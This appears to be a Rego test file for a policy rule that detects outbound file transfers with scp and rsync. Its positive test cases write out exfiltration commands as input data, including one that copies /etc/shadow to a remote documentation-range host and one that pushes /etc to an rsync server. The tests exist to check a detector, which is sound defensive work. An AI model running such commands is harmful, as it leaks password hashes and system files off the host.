package palisade.rules.file_transfer_out_test

import rego.v1

import data.palisade.lib.fixtures as fx
import data.palisade.rules.file_transfer_out as rule

test_uploads if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/scp", ["scp", "-P", "2222", "/etc/shadow", "x@203.0.113.7:/tmp/"])
	hits == {"scp copies files to x@203.0.113.7:/tmp/ on the host: scp -P 2222 /etc/shadow x@203.0.113.7:/tmp/"}
	count(rule.hits) == 1 with input as fx.container_exec("/usr/bin/rsync", ["rsync", "-az", "/data/", "backup.example.com:/srv/"])
	count(rule.hits) == 1 with input as fx.host_exec("/usr/bin/rsync", ["rsync", "-a", "/etc", "rsync://203.0.113.7/m"])
}

test_downloads_and_local_copies_are_not_matched if {
	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/scp", ["scp", "host:/etc/motd", "/tmp/"])
	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/rsync", ["rsync", "-a", "/src/", "/dst/"])
	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/rsync", ["rsync", "-a", "./a:b/", "/dst/"])
}
